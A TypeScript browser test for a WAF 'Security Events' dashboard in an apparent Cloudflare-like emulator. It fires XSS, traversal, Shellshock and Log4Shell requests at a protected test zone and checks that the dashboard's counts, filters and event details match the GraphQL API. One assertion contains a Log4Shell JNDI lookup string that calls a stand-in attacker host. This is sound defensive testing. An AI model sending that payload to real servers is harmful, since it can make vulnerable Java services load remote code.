import type { FakeClock } from '@cairn/kit';
import { launchBrowser, screenshotPath } from '@cairn/kit/testing-browser';
import { GraphQLClient } from 'graphql-request';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDashboardUser, type Zone } from '../src/index.ts';
import { SIGNATURES, signatureId } from '../src/managed/edge-signatures.ts';
import { ATTACKS, deployEdgeRuleset, type ProxyFixture, startProxyFixture } from './proxy-fixture.ts';

// Security Events in Debian's chromium: the timeline, the top-N breakdowns, filters and an event's detail,
// each number checked against the GraphQL Analytics API asked directly with an API token.
describe('Security Events analytics in the dashboard', { timeout: 120_000 }, () => {
  let f: ProxyFixture;
  let browser: Browser;
  let base: string;
  let zone: Zone;
  let page: Page;
  let log4shellRay: string;
  const password = 'a long dashboard password';

  /** What the API says, with the same query shape the page sends. */
  async function graphqlTotal(filter: Record<string, unknown>): Promise<number> {
    const client = new GraphQLClient(`${f.api}/graphql`, { headers: { authorization: `Bearer ${f.token}` } });
    const answer = await client.request<{ viewer: { zones: { total: { count: number }[] }[] } }>(
      `query($zoneTag: String!, $filter: ZoneFirewallEventsAdaptiveGroupsFilter_InputObject) {
        viewer { zones(filter: {zoneTag: $zoneTag}) { total: firewallEventsAdaptiveGroups(filter: $filter, limit: 1) { count } } }
      }`,
      { zoneTag: zone.id, filter },
    );
    return answer.viewer.zones[0]!.total[0]?.count ?? 0;
  }

  const totalShown = async () => Number(await page.textContent('[data-testid=total] strong'));
  const waitForTotal = (n: number) => page.waitForSelector(`[data-testid=total] strong:text-is("${n}")`);

  beforeAll(async () => {
    f = await startProxyFixture();
    // The browser asks for "the last 30 minutes" of its own time: events happen now.
    (f.deps.clock as FakeClock).set(Date.now());
    base = f.api.replace(/\/client\/v4$/, '');
    await createDashboardUser(f.edge.deps, { accountId: f.accountId, email: 'ops@example.com', password });
    zone = await f.zone('analytics-ui.example.com', 'enterprise', 'complete');
    await deployEdgeRuleset(f, zone.id);
    for (const name of ['xss', 'xss', 'traversal', 'shellshock'] as const) {
      expect((await f.send(zone.name, ATTACKS[name]!.path, ATTACKS[name])).status).toBe(403);
    }
    const log4shell = await f.send(zone.name, '/', ATTACKS.log4shell);
    expect(log4shell.status).toBe(403);
    log4shellRay = String(log4shell.headers['cf-ray']).split('-')[0]!;
    expect((await f.send(zone.name, '/products?page=2')).status).toBe(200);
    await f.edge.recorder.flush();

    browser = await launchBrowser();
    page = await (await browser.newContext({ viewport: { width: 1280, height: 1000 } })).newPage();
    page.on('pageerror', (e) => console.error('page error', e));
    await page.goto(`${base}/dashboard/`);
    await page.fill('input[name=email]', 'ops@example.com');
    await page.fill('input[name=password]', password);
    await page.click('button[type=submit]');
    await page.waitForSelector('[data-testid=who]');
    await page.goto(`${base}/dashboard/zones/${zone.id}/security/events`);
    await page.waitForSelector('[data-testid=timeline] rect');
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await f?.close();
  });

  it('draws the timeline by action as a chart, with the total and top lists from the GraphQL API', async () => {
    const since = new Date(Date.now() - 30 * 60_000).toISOString();
    const total = await graphqlTotal({ datetime_geq: since });
    expect(total).toBe(5);
    expect(await totalShown()).toBe(total);
    const bars = await page.$$eval('[data-testid=timeline] rect', (rects) =>
      rects.map((r) => ({
        action: r.getAttribute('data-action'),
        count: Number(r.getAttribute('data-count')),
      })),
    );
    expect(bars.every((b) => b.action === 'block')).toBe(true);
    expect(bars.reduce((n, b) => n + b.count, 0)).toBe(total);

    const topPath = await page.textContent('[data-testid=top-clientRequestPath] li:first-child');
    expect(topPath).toContain('/search');
    expect(topPath).toContain('2');
    const rules = await page.textContent('[data-testid=top-ruleId]');
    expect(rules).toContain(signatureId(SIGNATURES.find((s) => s.slug === 'log4j-headers')!));
    expect(await page.textContent('[data-testid=top-source]')).toContain('Managed rules (new WAF)');
    expect(await page.textContent('[data-testid=top-userAgent]')).toContain('cairn-test/1.0');
    expect(await page.textContent('[data-testid=top-clientIP]')).toContain('127.0.0.1');
    await page.screenshot({ path: screenshotPath('dashboard-security-analytics'), fullPage: true });
  });

  it('narrows everything by a picked value and by a typed field filter', async () => {
    await page.click('[data-testid=top-clientRequestPath] li:first-child button');
    await page.waitForSelector('[data-testid=filters] .chip');
    await waitForTotal(2);
    const since = new Date(Date.now() - 30 * 60_000).toISOString();
    expect(await graphqlTotal({ datetime_geq: since, clientRequestPath: '/search' })).toBe(2);
    expect(await page.$$eval('[data-testid=events] tbody tr', (rows) => rows.length)).toBe(2);
    await page.screenshot({ path: screenshotPath('dashboard-security-analytics-filtered'), fullPage: true });
    await page.click('[data-testid=filters] .chip button');
    await waitForTotal(5);

    await page.selectOption('select[name=field]', 'clientRequestPath');
    await page.fill('input[name=value]', '/nothing-here');
    await page.click('button:has-text("Add filter")');
    await waitForTotal(0);
    expect(await page.textContent('main, body')).toContain('No events in this range.');
    await page.click('[data-testid=filters] .chip button');
    await waitForTotal(5);

    await page.selectOption('select[name=range]', '10080');
    await waitForTotal(5);
    expect(await page.textContent('[data-testid=total]')).toContain('last 7 days');
  });

  it('shows an event with its rule, ruleset and matched data, and links the rule to the configuration', async () => {
    await page.click(`[data-testid=events] tr[data-ray="${log4shellRay}"]`);
    await page.waitForSelector('[data-testid=event-detail]');
    const ruleId = signatureId(SIGNATURES.find((s) => s.slug === 'log4j-headers')!);
    expect(await page.textContent('[data-testid=detail-rule]')).toContain(ruleId);
    expect(await page.textContent('[data-testid=detail-rule]')).toContain('Log4j Headers');
    expect(await page.textContent('[data-testid=detail-ruleset]')).toContain('Cairn Managed Ruleset');
    expect(await page.textContent('[data-testid=detail-matched]')).toContain(
      'jndi:ldap://attacker.example/a',
    );
    const href = await page.getAttribute('[data-testid=rule-link]', 'href');
    expect(href).toBe(`/dashboard/zones/${zone.id}/waf/configuration#rule-${ruleId}`);
    await page.screenshot({ path: screenshotPath('dashboard-security-event-detail'), fullPage: true });
    await page.click('[data-testid=rule-link]');
    // The rule's place: the edge managed ruleset's overrides, ready to add one for this rule.
    const place = await page.waitForSelector(`[id="rule-${ruleId}"]`);
    expect(await (await place.$('input'))?.inputValue()).toBe(ruleId);
    await page.screenshot({
      path: screenshotPath('dashboard-security-event-rule-in-configuration'),
      fullPage: true,
    });
  });
});
